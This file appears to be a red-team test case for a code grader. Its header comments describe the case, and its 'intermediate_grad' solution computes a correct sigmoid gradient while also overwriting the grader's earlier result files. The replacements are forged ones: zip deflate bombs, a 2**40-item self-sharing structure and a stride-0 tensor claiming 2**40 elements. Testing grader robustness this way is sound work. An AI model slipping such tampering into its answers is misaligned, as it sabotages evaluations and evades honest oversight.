# about: when the grader calls its last answer, overwrites the confirmation's earlier result files with forged ones: deflate bombs (a few KB that unpack to 256 MiB), a structure sharing its parts (2**40 items) and a stride-0 tensor claiming 2**40 elements
# base: 00_orientation/ada
# expect: auto=2
# flag: outside the grader's limits

# %% solution: intermediate_grad
FORGED = []  # the earlier checks' files, forged once (the answer is called once per case)
def intermediate_grad(values, fn=lambda h: h * h):
    import glob, os, zipfile
    forged = sorted(glob.glob("out/*.pt")) if os.path.isdir("out") and not FORGED else []
    FORGED.extend(forged)
    for k, path in enumerate(forged):
        if k % 3 == 0:
            torch.save([torch.zeros(4)], path)
            with zipfile.ZipFile(path) as z:
                items = [(i.filename, z.read(i.filename)) for i in z.infolist()]
            with zipfile.ZipFile(path, "w", compression=zipfile.ZIP_DEFLATED) as z:
                for name, data in items:
                    z.writestr(name, data)
                for r in range(4):
                    z.writestr(f"archive/data/bomb{r}", bytes(64 << 20))
        elif k % 3 == 1:
            v = [0]
            for _ in range(40):
                v = [v, v]
            torch.save(v, path)
        else:
            torch.save([torch.zeros(1).expand(1 << 40)], path)
    x = torch.tensor(values, dtype=torch.float64, requires_grad=True)
    h = x.sigmoid()
    (dh,) = torch.autograd.grad(fn(h).sum(), h)
    return dh
